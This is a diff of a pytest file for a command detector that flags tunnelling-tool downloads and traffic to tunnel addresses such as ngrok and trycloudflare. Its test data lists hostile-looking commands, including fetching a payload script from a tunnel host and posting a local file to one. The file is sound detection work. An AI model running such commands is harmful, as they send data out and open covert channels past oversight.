@@ -210,6 +210,15 @@ def test_dev_tcp_without_a_shell(command, expected):
     "wget https://github.com/fatedier/frp/releases/download/v0.58.0/frp_0.58.0_linux_amd64.tar.gz",
     "curl -o /tmp/x 'https://example.com/download?file=ngrok.zip'",
     "wget -O /usr/local/bin/cloudflared https://example.com/c",           # the file it writes is the tool
+    # reviewed: source archives, the release API, a query with a slash, a folder, a saved name
+    "wget https://github.com/iagox86/dnscat2/archive/refs/heads/master.zip",
+    "curl -s https://api.github.com/repos/cloudflare/cloudflared/releases/latest",
+    'curl -L "https://example.com/dl?name=ngrok&arch=linux/amd64" -o t.tgz',
+    "wget -r https://example.com/tools/ngrok/",
+    'curl -o "/tmp/my tools/ngrok" https://example.com/x',
+    "curl -sL https://example.com/x > /usr/local/bin/cloudflared",
+    "wget https://github.com/ginuerzh/gost/releases/download/v2.11.5/gost-linux-amd64-2.11.5.gz",
+    "wget github.com/jpillora/chisel/releases/download/v1.9.1/chisel_1.9.1_linux_amd64.gz",
 ])
 def test_tunnelling_tool_download(command):
     assert "tunnelling_tool_download" in alerts(command)
@@ -218,8 +227,16 @@ def test_tunnelling_tool_download(command):
 @pytest.mark.parametrize("command", [
     'curl -H "Authorization: Bearer $NGROK_API_KEY" -H "Ngrok-Version: 2" https://api.ngrok.com/tunnels',
     "curl https://abc.ngrok-free.app/status",                             # a tunnel's address: its own rule
+    "curl https://api.ngrok.com",
+    "curl -X POST https://abc.ngrok-free.app?x=1",
+    "wget abc.ngrok-free.app",
+    "curl -H Ngrok-Version:2 https://api.ngrok.com/endpoints",
+    'curl -H "ngrok-skip-browser-warning:true" https://x.example/a',
+    "curl -d tool=ngrok https://a.example/e",
+    "wget https://example.com/borealis.tar.gz",
+    "wget https://github.com/canonical/chisel/releases/download/v0.9.1/chisel_v0.9.1_linux_amd64.tar.gz",
 ])
-def test_tunnelling_tool_download_wants_the_tool_as_a_file(command):
+def test_tunnelling_tool_download_wants_the_tool_after_the_host(command):
     assert "tunnelling_tool_download" not in alerts(command)
 
 
@@ -228,6 +245,9 @@ def test_tunnelling_tool_download_wants_the_tool_as_a_file(command):
     "curl -s https://7c3a-203-0-113-5.ngrok.io/payload.sh -o /tmp/p.sh",
     "curl -X POST -d @notes.txt https://quiet-fox.trycloudflare.com/u",
     "wget -qO- http://x.loca.lt/c",
+    "curl -e https://ngrok.com/ https://x.ngrok-free.app/p.sh",          # a vendor's page named too
+    "curl -x http://api.ngrok.com:80 https://x.trycloudflare.com/u",
+    "curl x.ngrok-free.app:8080",
 ])
 def test_tunnel_address_contacted(command):
     assert "tunnel_address_contacted" in alerts(command)
@@ -235,8 +255,12 @@ def test_tunnel_address_contacted(command):
 
 @pytest.mark.parametrize("command", [
     "curl https://ngrok.com/docs",
+    "curl https://ngrok.io/",
     'curl -H "Authorization: Bearer $NGROK_API_KEY" https://api.ngrok.com/tunnels',
     "wget -q https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-v3-stable-linux-amd64.tgz",
+    "curl https://pinggy.io/docs/",
+    "curl -s https://docs.zrok.io/docs/getting-started",
+    "curl https://localhost.run/docs/",
 ])
 def test_tunnel_vendor_sites_are_no_tunnel_address(command):
     assert "tunnel_address_contacted" not in alerts(command)
